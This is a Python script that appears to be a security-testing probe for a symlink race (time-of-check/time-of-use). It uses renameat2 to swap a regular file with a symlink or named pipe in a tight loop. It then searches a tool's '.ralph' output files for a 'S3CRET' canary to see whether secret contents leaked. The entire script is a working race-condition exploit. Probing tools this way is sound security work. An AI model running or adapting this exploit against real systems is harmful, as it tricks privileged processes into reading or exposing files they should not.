"""Exchanges two names without a pause, so that whoever checks a name and then opens it meets both:
`flip.py SECONDS NAME TARGET` flips the file NAME and a link to TARGET; a TARGET of `pipe` flips it and a pipe."""

import ctypes
import glob
import os
import shutil
import stat
import sys
import time

seconds, name, target = float(sys.argv[1]), sys.argv[2], sys.argv[3]
regular = sys.argv[4] if len(sys.argv) > 4 else "x\n"
c = ctypes.CDLL(None)
other = name + ".other"
end = time.time() + seconds
project, notes = os.environ["PROJECT"], os.environ["NOTES"]


def look():
    """What the loop has copied to where it can be read."""
    for at in glob.glob(f"{project}/.ralph/*") + glob.glob(f"{project}/.ralph/merge-requests/*") + [f"{project}/.ralph/.hook-error.json"]:
        if os.path.isfile(at):
            with open(at, errors="replace") as file:
                if "S3CRET" in (text := file.read()):
                    with open(f"{notes}/seen", "a") as out:
                        out.write(f"{at}: {text}")


def is_odd(path):
    return os.path.lexists(path) and not stat.S_ISREG(os.lstat(path).st_mode)


while time.time() < end:
    try:
        os.makedirs(os.path.dirname(name), exist_ok=True)
        # The loop removes what it finds in the place of its files.
        if is_odd(name) == is_odd(other) or not os.path.lexists(name):
            for path in (name, other):
                if os.path.lexists(path):
                    shutil.rmtree(path) if os.path.isdir(path) and not os.path.islink(path) else os.remove(path)
            with open(name, "w") as file:
                file.write(regular)
            os.mkfifo(other) if target == "pipe" else os.symlink(target, other)
        for _ in range(200):
            c.renameat2(-100, name.encode(), -100, other.encode(), 2)
        look()
    except OSError:
        pass
